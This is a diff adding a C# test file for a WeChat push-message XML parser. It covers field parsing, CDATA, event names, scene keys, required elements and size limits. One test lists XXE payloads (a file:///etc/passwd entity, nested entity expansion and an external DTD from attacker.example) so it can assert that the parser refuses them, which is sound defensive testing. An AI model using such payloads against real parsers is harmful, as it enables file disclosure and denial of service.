@@ -1,0 +1,133 @@
+using System.Text;
+using MpEventRelay.Protocol.Errors;
+using MpEventRelay.Protocol.Messages;
+
+namespace MpEventRelay.Protocol.Tests.Messages;
+
+public sealed class WeChatXmlReaderTests
+{
+    [Fact]
+    public void Reads_fields_regardless_of_order_whitespace_and_cdata()
+    {
+        const string xml = "<xml>\n  <CreateTime> 1409735668 </CreateTime>\n  <MsgType>text</MsgType>\n  <Content><![CDATA[a & b]]></Content>\n  <FromUserName>o1</FromUserName><ToUserName><![CDATA[gh_1]]></ToUserName>\n  <MsgId>6054768590064713728</MsgId></xml>";
+
+        var message = PushMessage.Parse(Vectors.Utf8(xml));
+
+        Assert.Equal("gh_1", message.ToUserName);
+        Assert.Equal("o1", message.FromUserName);
+        Assert.Equal(1409735668, message.CreateTime);
+        Assert.Equal("text", message.MsgType);
+        Assert.Equal("a & b", message.Content);
+        Assert.Equal("6054768590064713728", message.MsgId);
+    }
+
+    [Fact]
+    public void Keeps_the_exact_bytes_and_reads_emoji_chinese_and_split_cdata()
+    {
+        var bytes = Vectors.Utf8(Push("<MsgType>text</MsgType><Content><![CDATA[你好 😀 a]]]]><![CDATA[>b]]></Content>"));
+
+        var message = PushMessage.Parse(bytes);
+
+        Assert.Equal("你好 😀 a]]>b", message.Content);
+        Assert.Equal(bytes, message.Xml.ToArray());
+    }
+
+    [Fact]
+    public void Skips_nested_and_unknown_elements()
+    {
+        var message = PushMessage.Parse(Vectors.Utf8(Push("<MsgType>event</MsgType><Event>scancode_push</Event><ScanCodeInfo><ScanType>qrcode</ScanType></ScanCodeInfo><Whatever>x</Whatever>")));
+
+        Assert.True(message.EventIs("scancode_push"));
+    }
+
+    [Fact]
+    public void Reads_template_send_MsgID_with_capital_D()
+    {
+        var message = PushMessage.Parse(Vectors.Utf8(Push("<MsgType>event</MsgType><Event>TEMPLATESENDJOBFINISH</Event><MsgID>200163836</MsgID><Status>success</Status>")));
+
+        Assert.Equal("200163836", message.MsgId);
+    }
+
+    [Theory]
+    [InlineData("SCAN")]
+    [InlineData("scan")]
+    [InlineData("Scan")]
+    public void Event_names_are_recognised_in_any_case(string name)
+    {
+        var message = PushMessage.Parse(Vectors.Utf8(Push($"<MsgType>EVENT</MsgType><Event>{name}</Event><EventKey>123</EventKey>")));
+
+        Assert.True(message.IsEvent);
+        Assert.True(message.EventIs("SCAN"));
+        Assert.False(message.EventIs("subscribe"));
+        Assert.Equal("123", message.Scene);
+    }
+
+    [Theory]
+    [InlineData("subscribe", "qrscene_123123", "123123")]
+    [InlineData("subscribe", "qrscene_qrscene_x", "qrscene_x")]
+    [InlineData("subscribe", "last_trade_no_4200001", null)]
+    [InlineData("subscribe", "", null)]
+    [InlineData("SCAN", "123123", "123123")]
+    [InlineData("CLICK", "qrscene_1", null)]
+    public void Scene_strips_qrscene_once_and_only_on_subscribe(string @event, string key, string? scene)
+    {
+        var message = PushMessage.Parse(Vectors.Utf8(Push($"<MsgType>event</MsgType><Event>{@event}</Event><EventKey><![CDATA[{key}]]></EventKey>")));
+
+        Assert.Equal(scene, message.Scene);
+    }
+
+    [Theory]
+    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><xml><ToUserName>&xxe;</ToUserName></xml>")]
+    [InlineData("<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">]><xml><Content>&lol2;</Content></xml>")]
+    [InlineData("<!DOCTYPE xml SYSTEM \"http://attacker.example/evil.dtd\"><xml/>")]
+    public void Dtds_are_refused_xxe_and_entity_expansion_included(string xml)
+    {
+        AssertRefused(ProtocolError.Dtd, xml);
+    }
+
+    [Fact]
+    public void An_undeclared_entity_is_not_expanded()
+    {
+        AssertRefused(ProtocolError.NotXml, Push("<MsgType>&xxe;</MsgType>"));
+    }
+
+    [Theory]
+    [InlineData("")]
+    [InlineData("success")]
+    [InlineData("{\"ToUserName\":\"gh\"}")]
+    [InlineData("<xml><ToUserName>unclosed</xml>")]
+    [InlineData("<root><ToUserName>a</ToUserName></root>")]
+    [InlineData("<xml></xml><xml></xml>")]
+    [InlineData("<html><body>502 Bad Gateway</body></html>")]
+    public void Non_wechat_xml_is_refused(string body)
+    {
+        AssertRefused(ProtocolError.NotXml, body);
+    }
+
+    [Theory]
+    [InlineData("<xml><FromUserName>o</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>")]
+    [InlineData("<xml><ToUserName>g</ToUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>")]
+    [InlineData("<xml><ToUserName>g</ToUserName><FromUserName>o</FromUserName><MsgType>text</MsgType></xml>")]
+    [InlineData("<xml><ToUserName>g</ToUserName><FromUserName>o</FromUserName><CreateTime>soon</CreateTime><MsgType>text</MsgType></xml>")]
+    [InlineData("<xml><ToUserName>g</ToUserName><FromUserName>o</FromUserName><CreateTime>1</CreateTime></xml>")]
+    public void Missing_required_elements_are_refused(string xml)
+    {
+        AssertRefused(ProtocolError.MissingElement, xml);
+    }
+
+    [Fact]
+    public void Bodies_over_the_limit_are_refused_before_parsing()
+    {
+        var body = Encoding.UTF8.GetBytes(Push($"<MsgType>text</MsgType><Content>{new string('x', 2048)}</Content>"));
+
+        var error = Assert.Throws<ProtocolException>(() => PushMessage.Parse(body, maxBytes: 1024)).Error;
+
+        Assert.Equal(ProtocolError.TooLarge, error);
+    }
+
+    internal static string Push(string rest) =>
+        $"<xml><ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName><FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName><CreateTime>1714112445</CreateTime>{rest}</xml>";
+
+    private static void AssertRefused(ProtocolError expected, string body) =>
+        Assert.Equal(expected, Assert.Throws<ProtocolException>(() => PushMessage.Parse(Vectors.Utf8(body))).Error);
+}
